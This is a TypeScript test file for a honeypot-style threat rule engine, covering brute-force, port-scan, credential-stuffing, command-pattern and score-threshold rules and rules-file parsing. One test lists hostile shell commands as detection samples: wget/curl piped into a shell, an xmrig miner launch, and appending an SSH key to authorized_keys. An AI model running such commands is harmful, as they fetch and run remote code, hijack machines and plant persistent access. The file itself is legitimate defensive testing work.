/**
 * Each rule type on synthetic streams whose times come from an injected clock: the window and threshold
 * boundaries (N-1 vs N events, an event just inside vs just outside T), suppression, and the rules file
 * (errors name file, line and key; a bad reload keeps the old rules).
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import type { AnyEvent } from '../../src/core/events.js';
import { silentLogger } from '../../src/core/logger.js';
import { newProfile } from '../../src/threat/profile.js';
import { RuleEngine, type RuleFiring } from '../../src/threat/rules/rule-engine.js';
import { parseRule } from '../../src/threat/rules/rule-definition.js';
import { defaultRules, parseRulesFile, RulesFileError } from '../../src/threat/rules/rules-file.js';
import { RulesSource } from '../../src/threat/rules/rules-source.js';
import { addScore } from '../../src/threat/profile.js';
import { auth, canary, command, connect, norm, T0, TestClock, upload } from './helpers.js';

const H = 3_600_000;

function engine(rule: Record<string, unknown>): RuleEngine {
  const { rule: def, problems } = parseRule(rule);
  assert.ok(def, JSON.stringify(problems));
  return new RuleEngine([def], { maxSources: 1000, halfLifeMs: H });
}

function feed(e: RuleEngine, events: AnyEvent[]): RuleFiring[] {
  const out: RuleFiring[] = [];
  const profiles = new Map<string, ReturnType<typeof newProfile>>();
  for (const raw of events) {
    const ev = norm(raw);
    let p = profiles.get(ev.src);
    if (!p) profiles.set(ev.src, (p = newProfile('ip', ev.src, ev.time)));
    out.push(...e.evaluate(ev, p));
  }
  return out;
}

describe('brute_force', () => {
  const rule = { name: 'bf', type: 'brute_force', threshold: 5, window: '60s' };
  it('N-1 attempts within T do not fire; the Nth does, with all N as evidence', () => {
    const clock = new TestClock(T0);
    const evs = Array.from({ length: 5 }, () => (clock.advance(1000), auth(clock.now(), '203.0.113.5')));
    assert.equal(feed(engine(rule), evs.slice(0, 4)).length, 0);
    const f = feed(engine(rule), evs);
    assert.equal(f.length, 1);
    assert.deepEqual(f[0]!.match.evidence, evs.map((e) => e.id));
    assert.equal(f[0]!.def.severity, 'high');
  });
  it('window boundary: N attempts spanning exactly T fire; spanning T + 1 ms do not', () => {
    const at = (offsets: number[]) => offsets.map((o) => auth(T0 + o, '203.0.113.6'));
    assert.equal(feed(engine(rule), at([0, 1, 2, 3, 60_000])).length, 1);
    assert.equal(feed(engine(rule), at([0, 1, 2, 3, 60_001])).length, 0);
  });
  it('one brute force is one detection per suppression window, then fires again', () => {
    const e = engine({ ...rule, suppress: '10m' });
    const clock = new TestClock(T0);
    const burst = (n: number) => Array.from({ length: n }, () => (clock.advance(100), auth(clock.now(), '203.0.113.7')));
    assert.equal(feed(e, burst(100)).length, 1, '100 attempts: one detection');
    clock.advance(10 * 60_000);
    assert.equal(feed(e, burst(5)).length, 1, 'after the suppression window: a new detection');
  });
  it('sources are counted apart', () => {
    const evs = [0, 1, 2, 3, 4].flatMap((i) => [auth(T0 + i, '198.51.100.1'), auth(T0 + i, '198.51.100.2')]);
    assert.equal(feed(engine(rule), evs).length, 2);
  });
});

describe('port_scan', () => {
  it('N distinct ports within T fire; repeated ports do not count twice', () => {
    const e = engine({ name: 'ps', type: 'port_scan', threshold: 4, window: '10s' });
    assert.equal(feed(e, [22, 22, 23, 23, 80].map((p, i) => connect(T0 + i, '192.0.2.9', p))).length, 0);
    assert.equal(feed(e, [443].map((p) => connect(T0 + 10, '192.0.2.9', p))).length, 1);
  });
  it('window boundary on distinct ports', () => {
    const mk = (last: number) => [1, 2, 3].map((p, i) => connect(T0 + i, '192.0.2.10', p)).concat(connect(T0 + last, '192.0.2.10', 4));
    assert.equal(feed(engine({ name: 'ps', type: 'port_scan', threshold: 4, window: '10s' }), mk(10_000)).length, 1);
    assert.equal(feed(engine({ name: 'ps', type: 'port_scan', threshold: 4, window: '10s' }), mk(10_001)).length, 0, 'port 1 fell out of the window');
  });
  it('decoysOnly counts only decoy connections (by the port each decoy stands for)', () => {
    const e = engine({ name: 'ds', type: 'port_scan', decoysOnly: true, threshold: 3, window: '1m' });
    const evs = [connect(T0, '192.0.2.11', 22), connect(T0 + 1, '192.0.2.11', 80), connect(T0 + 2, '192.0.2.11', 30000, 8081), connect(T0 + 3, '192.0.2.11', 30001, 9000)];
    assert.equal(feed(e, evs).length, 0);
    const f = feed(e, [connect(T0 + 4, '192.0.2.11', 30002, 5555)]);
    assert.equal(f.length, 1);
    assert.match(f[0]!.match.summary, /3 distinct decoy ports \(5555, 8081, 9000\)/);
  });
});

describe('credential_stuffing', () => {
  it('counts distinct usernames within T, not attempts', () => {
    const e = engine({ name: 'cs', type: 'credential_stuffing', threshold: 3, window: '5m' });
    assert.equal(feed(e, ['root', 'root', 'admin', 'admin'].map((u, i) => auth(T0 + i, '192.0.2.20', u))).length, 0);
    assert.equal(feed(e, [auth(T0 + 5 * 60_000 - 1, '192.0.2.20', 'oracle')]).length, 1);
  });
  it('a username older than T no longer counts', () => {
    const e = engine({ name: 'cs', type: 'credential_stuffing', threshold: 3, window: '5m' });
    assert.equal(feed(e, [auth(T0, '192.0.2.21', 'a'), auth(T0 + 1, '192.0.2.21', 'b'), auth(T0 + 300_002, '192.0.2.21', 'c')]).length, 0);
  });
});

describe('login_success, command_pattern, file_upload, canary_use', () => {
  it('a successful login fires; a failed one does not', () => {
    const e = engine({ name: 'l', type: 'login_success' });
    assert.equal(feed(e, [auth(T0, '192.0.2.30', 'root', 'x', false)]).length, 0);
    assert.equal(feed(e, [auth(T0, '192.0.2.30', 'root', '123456', true)]).length, 1);
  });
  it('the built-in patterns catch droppers, chmod +x, miners and busybox probes, and not ordinary commands', () => {
    const e = engine({ name: 'm', type: 'command_pattern', suppress: 0 });
    const bad = ['cd /tmp; wget http://198.51.100.7/x.sh | sh', 'curl -s http://x/y -o- | bash', 'chmod +x .x; ./.x', 'chmod 777 /tmp/a', './xmrig -o stratum+tcp://pool:3333', '/bin/busybox ECCHI', 'echo ssh-rsa AAA >> ~/.ssh/authorized_keys'];
    const good = ['uname -a', 'ls -la', 'cat /proc/cpuinfo', 'wget --help', 'busybox'];
    for (const [i, c] of bad.entries()) assert.equal(feed(e, [command(T0 + i * 1000, `192.0.2.${40 + i}`, c)]).length, 1, c);
    for (const [i, c] of good.entries()) assert.equal(feed(e, [command(T0, `192.0.2.${60 + i}`, c)]).length, 0, c);
  });
  it('a custom pattern list replaces the built-in one', () => {
    const e = engine({ name: 'm', type: 'command_pattern', patterns: [{ name: 'recon', regex: '^uname\\b' }] });
    const f = feed(e, [command(T0, '192.0.2.70', 'uname -a'), command(T0, '192.0.2.71', 'wget x | sh')]);
    assert.equal(f.length, 1);
    assert.match(f[0]!.match.summary, /recon/);
  });
  it('an upload fires; canary use fires critical', () => {
    assert.equal(feed(engine({ name: 'u', type: 'file_upload' }), [upload(T0, '192.0.2.80', 'ab'.repeat(32))]).length, 1);
    const f = feed(engine({ name: 'c', type: 'canary_use' }), [canary(T0, '10.0.0.5')]);
    assert.equal(f.length, 1);
    assert.equal(f[0]!.def.severity, 'critical');
  });
});

describe('score_threshold', () => {
  it('fires on the crossing only; re-arms after the score decays below', () => {
    const e = engine({ name: 's', type: 'score_threshold', threshold: 10, suppress: 0 });
    const p = newProfile('ip', '192.0.2.90', T0);
    const at = (t: number, add: number) => {
      addScore(p, add, t, H);
      return e.evaluate(norm(auth(t, '192.0.2.90')), p).length;
    };
    assert.equal(at(T0, 9.99), 0);
    assert.equal(at(T0 + 1, 0.02), 1);
    assert.equal(at(T0 + 2, 5), 0, 'still above: no second detection');
    assert.equal(at(T0 + 2 * H, 0), 0, 'decayed below 10: re-armed');
    assert.equal(at(T0 + 2 * H + 1, 10), 1);
  });
});

describe('rules file', () => {
  it('adds to the built-in rules and replaces one of the same name; defaults: false keeps only its own', () => {
    const rules = parseRulesFile('rules:\n  - name: brute-force\n    type: brute_force\n    threshold: 3\n  - name: mine\n    type: file_upload\n', 'r.yaml');
    assert.equal(rules.length, defaultRules().length + 1);
    assert.equal(rules.find((r) => r.name === 'brute-force')!.params.threshold, 3);
    assert.deepEqual(parseRulesFile('defaults: false\nrules:\n  - {name: a, type: login_success}\n', 'r.yaml').map((r) => r.name), ['a']);
  });
  it('errors name the file, the line and the key', () => {
    const text = ['rules:', '  - name: ok', '    type: brute_force', '  - name: bad', '    type: brute_force', '    threshold: -1', '    windw: 5m', '  - name: x', '    type: nope', ''].join('\n');
    try {
      parseRulesFile(text, '/etc/lnmt/rules.yaml');
      assert.fail('expected an error');
    } catch (err) {
      assert.ok(err instanceof RulesFileError);
      const by = Object.fromEntries(err.problems.map((p) => [p.key, p]));
      assert.equal(by['rules[1].threshold']!.line, 6);
      assert.equal(by['rules[1].windw']!.line, 7);
      assert.match(by['rules[1].windw']!.message, /unknown key.*window/);
      assert.equal(by['rules[2].type']!.line, 9);
      assert.match(err.message, /\/etc\/lnmt\/rules\.yaml:6: rules\[1\]\.threshold/);
    }
    assert.throws(() => parseRulesFile('rules: [\n', 'r.yaml'), (e: unknown) => e instanceof RulesFileError && e.problems[0]!.key === '(syntax)');
    assert.throws(() => parseRulesFile('rules:\n  - {name: a, type: command_pattern, patterns: [{name: p, regex: "("}]}\n', 'r.yaml'), /patterns\[0\]\.regex/);
  });
  it('hot reload: a good file replaces the rules, a bad one keeps them and counts a rejection', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'lnmt-rules-'));
    try {
      const file = join(dir, 'rules.yaml');
      writeFileSync(file, 'defaults: false\nrules:\n  - {name: a, type: login_success}\n');
      const src = new RulesSource(file, silentLogger());
      const e = new RuleEngine(await src.load(), { maxSources: 10, halfLifeMs: H });
      const applied: string[][] = [];
      const apply = (r: Parameters<RuleEngine['replace']>[0]) => {
        e.replace(r);
        applied.push(r.map((x) => x.name));
      };
      src.watch(apply);
      writeFileSync(file, 'defaults: false\nrules:\n  - {name: b, type: file_upload}\n');
      for (let i = 0; i < 100 && applied.length === 0; i++) await new Promise((r) => setTimeout(r, 50));
      assert.deepEqual(e.definitions.map((d) => d.name), ['b']);
      writeFileSync(file, 'defaults: false\nrules:\n  - {name: c, type: nope}\n');
      for (let i = 0; i < 100 && src.rejected === 0; i++) await new Promise((r) => setTimeout(r, 50));
      assert.equal(src.rejected >= 1, true);
      assert.deepEqual(e.definitions.map((d) => d.name), ['b'], 'the bad file kept the old rules');
      src.close();
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
